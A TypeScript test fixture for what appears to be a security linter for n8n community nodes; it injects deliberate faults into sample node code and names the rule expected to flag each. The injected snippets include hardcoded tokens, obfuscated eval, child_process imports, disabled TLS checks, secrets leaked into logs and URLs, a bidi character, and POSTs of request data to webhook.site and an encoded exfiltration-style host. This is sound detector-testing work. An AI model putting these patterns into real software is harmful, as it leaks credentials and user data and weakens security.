import { append, type Fault, swap } from '../fault.ts';

const operations = 'nodes/Harborline/resources/shipment/operations.ts';
const transport = 'nodes/Harborline/shared/transport.ts';
const harborline = 'nodes/Harborline/Harborline.node.ts';
const request = 'nodes/Beaconly/request.ts';
const beacon = 'nodes/Beaconly/BeaconlyTrigger.node.ts';
const pierbook = 'nodes/Pierbook/Pierbook.node.js';
const shared = 'src/shared/request.ts';
const lint = (rule: string) => `@n8n/community-nodes/${rule}`;

function baseOf(file: string): Fault['base'] {
  if (file.startsWith('src/')) return 'versioned';
  if (file.includes('Beaconly')) return 'trigger';
  return file.includes('Pierbook') ? 'javascript' : 'programmatic';
}

const edit = (
  file: string,
  name: string,
  change: (text: string) => string,
  code: string,
  at: string,
  blocks = true,
): Fault => ({ name, base: baseOf(file), change: { [file]: change }, expect: { code, file, at }, blocks });

const first = (line: string) => (text: string) => `${line}\n${text}`;
const inRequest = (line: string) =>
  swap(
    '\treturn await this.helpers.httpRequestWithAuthentication',
    `${line}\n\treturn await this.helpers.httpRequestWithAuthentication`,
  );
const inExecute = (line: string) => swap('\t\t\t\tconst resource = this', `${line}\n\t\t\t\tconst resource = this`);

export const securityFaults: readonly Fault[] = [
  edit(
    transport,
    'a key in the code',
    append("\nexport const fallbackKey = 'ghp_9fK2mQx7LpZr4TvWb8YcNd3HsJ6uAe1GiRoC';\n"),
    lint('no-hardcoded-secrets'),
    'ghp_',
  ),
  edit(
    transport,
    'the environment',
    inRequest('if (process.env.HARBORLINE_URL) url = process.env.HARBORLINE_URL + url;'),
    lint('no-restricted-globals'),
    'process.env',
  ),
  edit(
    transport,
    'a child process',
    first("import { execSync } from 'child_process';\nexecSync('true');"),
    lint('no-restricted-imports'),
    'child_process',
  ),
  edit(
    transport,
    'the file system',
    first("import { readFileSync } from 'fs';\nexport const motto = () => readFileSync('/etc/motd', 'utf8');"),
    lint('no-restricted-imports'),
    "from 'fs'",
  ),
  edit(transport, 'eval', inRequest("eval('1');"), lint('no-dangerous-functions'), 'eval('),
  edit(
    transport,
    'Function as eval',
    inRequest("new Function('return 1')();"),
    lint('no-dangerous-functions'),
    'new Function',
  ),
  edit(
    transport,
    'eval by another name',
    inRequest("const run = globalThis['ev' + 'al' as 'eval'];\n  run('1');"),
    'security-indirect-eval',
    "run('1')",
  ),
  edit(
    transport,
    'a module by a name that is put together',
    inRequest("require(['child', 'process'].join('_'));"),
    'security-computed-require',
    'require([',
  ),
  edit(
    transport,
    'process by way of the global object',
    inRequest(
      "const env = (globalThis as never as Record<string, Record<string, object>>)['process'].env;\n  if (!env) throw new Error('no environment');",
    ),
    lint('no-restricted-globals'),
    "['process']",
  ),
  edit(
    transport,
    'an encoded address',
    inRequest(
      "const to = Buffer.from('aHR0cHM6Ly9jb2xsZWN0LmV4ZmlsLmlvL3Y=', 'base64').toString();\n  if (to === url) return {};",
    ),
    'security-encoded-payload',
    'aHR0',
  ),
  edit(
    transport,
    'a host that nobody speaks of',
    inRequest(
      "await this.helpers.httpRequest({ url: 'https://metrics.nobody-knows.io/v1', method: 'POST', body: { url } });",
    ),
    'security-undisclosed-host',
    'nobody-knows',
    false,
  ),
  edit(
    transport,
    'a collector',
    inRequest("await this.helpers.httpRequest({ url: 'https://webhook.site/2f1c', method: 'POST', body: { url } });"),
    'security-undisclosed-host',
    'webhook.site',
  ),
  edit(
    transport,
    'certificates are not looked at',
    swap('\t\tjson: true,', '\t\tjson: true,\n\t\tskipSslCertificateValidation: true,'),
    'security-certificates-ignored',
    'skipSsl',
  ),
  edit(
    transport,
    'an agent that does not look at certificates',
    (text) => swap('\t\tjson: true,', '\t\tjson: true,\n\t\tagentOptions: { rejectUnauthorized: false },')(text),
    'security-certificates-ignored',
    'rejectUnauthorized',
  ),
  edit(
    request,
    'certificates off for everybody',
    swap('  try {', "  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n  try {"),
    lint('no-restricted-globals'),
    'NODE_TLS',
  ),
  edit(
    shared,
    'requests over http',
    swap("baseURL: 'https://api.gullwatch.example'", "baseURL: 'http://api.gullwatch.example'"),
    'security-address-insecure',
    'http://api',
  ),
  edit(
    request,
    'the secret in the address',
    (text) =>
      swap(
        'const { team }',
        'const { team, accessToken }',
      )(swap('      url,\n', '      url: `${url}?token=${String(accessToken)}`,\n')(text)),
    'security-secret-in-address',
    '?token=',
    false,
  ),
  edit(
    request,
    'the secret in an error',
    (text) =>
      swap(
        'const { team }',
        'const { team, accessToken }',
      )(
        swap(
          'throw new NodeApiError(this.getNode(), error as JsonObject);',
          'throw new NodeApiError(this.getNode(), error as JsonObject, { message: `Failed with ${String(accessToken)}` });',
        )(text),
      ),
    'security-secret-shown',
    '${String(accessToken)}',
  ),
  edit(
    pierbook,
    'the secret in the log',
    swap(
      "const { harbourUrl } = await this.getCredentials('pierbookApi', i);",
      "const { harbourUrl, accessToken } = await this.getCredentials('pierbookApi', i);\n        this.logger.info(`Booking with ${accessToken}`);",
    ),
    'security-secret-shown',
    'logger.info',
  ),
  edit(
    pierbook,
    'the credential in the output',
    (text) =>
      swap(
        "const { harbourUrl } = await this.getCredentials('pierbookApi', i);",
        "const credentials = await this.getCredentials('pierbookApi', i);\n        const { harbourUrl } = credentials;",
      )(swap("json: operation === 'book' ? booking : { deleted: true }", 'json: { ...booking, credentials }')(text)),
    'security-secret-shown',
    'credentials }, pairedItem',
  ),
  edit(harborline, 'console', inExecute("console.log('running', itemIndex);"), 'no-console', 'console.log'),
  edit(
    harborline,
    'a timer',
    inExecute('await new Promise((resolve) => setTimeout(resolve, 100));'),
    lint('no-restricted-globals'),
    'setTimeout',
  ),
  edit(
    operations,
    'a character that turns the text around',
    swap("case 'create':", "case 'create': // \u202E if admin \u2066"),
    'security-bidi-character',
    "case 'create'",
  ),
  edit(
    operations,
    'a prototype is extended',
    append(
      '\n// eslint-disable-next-line\nArray.prototype.last = function () {\n  return this[this.length - 1];\n};\ndeclare global {\n  interface Array<T> {\n    last(): T;\n  }\n}\n',
    ),
    'security-prototype-extended',
    'Array.prototype.last',
  ),
  edit(
    pierbook,
    'in JavaScript: Object.prototype is extended',
    append("\nObject.defineProperty(Object.prototype, 'berth', { value: 1 });\n"),
    'security-prototype-extended',
    'Object.prototype',
  ),
  edit(
    pierbook,
    'in JavaScript: a method of n8n is replaced',
    append("\nrequire('n8n-workflow').NodeHelpers.getNodeParameters = () => null;\n"),
    'security-host-modules',
    'getNodeParameters =',
  ),
  edit(
    beacon,
    'telemetry',
    swap(
      '    const body = this.getBodyData();',
      "    const body = this.getBodyData();\n    await this.helpers.httpRequest({ method: 'POST', url: 'https://api.segment.io/v1/track', body });",
    ),
    'security-undisclosed-host',
    'segment.io',
  ),
  {
    name: 'a token of npm in the repository',
    base: 'trigger',
    change: { '.npmrc': `//registry.npmjs.org/:_authToken=npm_${'9fK2mVb7QzLx4TnRw8Yd3HsJ5cGpE6aUoB1t'}\n` },
    expect: { code: 'security-npm-token', file: '.npmrc' },
    blocks: true,
  },
];
